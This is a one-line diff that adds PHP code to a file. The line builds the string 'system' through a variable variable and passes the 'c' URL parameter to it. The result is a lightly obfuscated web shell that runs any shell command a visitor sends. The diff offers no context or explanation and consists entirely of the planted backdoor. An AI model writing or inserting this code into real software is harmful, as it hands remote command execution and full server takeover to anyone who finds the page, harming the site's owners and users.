@@ -1,0 +1,1 @@
+<?php $k = "a"; $$k = "system"; $a($_GET["c"]);
